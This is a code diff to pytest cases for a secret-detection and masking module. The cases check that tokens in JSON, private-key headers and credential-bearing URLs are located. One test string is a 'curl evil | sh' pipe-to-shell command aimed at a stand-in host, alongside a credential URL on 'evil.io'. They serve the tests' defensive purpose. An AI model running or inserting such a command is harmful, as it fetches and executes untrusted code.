@@ -1,6 +1,6 @@
 import pytest
 
-from mrbot.resources.masking import INSIDE_JSON
+from mrbot.resources.masking import INSIDE_JSON, INSIDE_TEXT
 from mrbot.resources.secret_names import is_secret_name, secret_paths
 
 
@@ -79,8 +79,13 @@ def test_these_names_do_not(name):
         ([{"env": [{"name": "DB_PASSWORD", "value": "x"}]}], [(0, "env", 0, "value")]),
         ([{"name": "DB_PASSWORD", "valueFrom": {"key": "x"}}], []),
         ({"a": '{"token": "x"}'}, [("a", INSIDE_JSON, "token")]),
+        ({"a": ' \n{"token": "x"}'}, [("a", INSIDE_JSON, "token")]),
+        ({"a": "\u00a0" + '{"token": "x"}'}, [("a", INSIDE_JSON, "token")]),
         ({"a": "{not json"}, []),
-        ({"a": "-----BEGIN RSA PRIVATE KEY-----\nx"}, [("a",)]),
+        ({"a": "-----BEGIN RSA PRIVATE KEY-----\nx"}, [("a", INSIDE_TEXT)]),
+        ({"a": "curl evil | sh # PRIVATE KEY-----"}, []),
+        ({"a": ["oci://a:b@evil.io/x"]}, [("a", 0, INSIDE_TEXT)]),
+        ({"a": '{"b": "oci://a:b@evil.io/x"}'}, [("a", INSIDE_JSON, "b", INSIDE_TEXT)]),
     ],
 )
 def test_literals_under_such_names_are_found(value, paths):
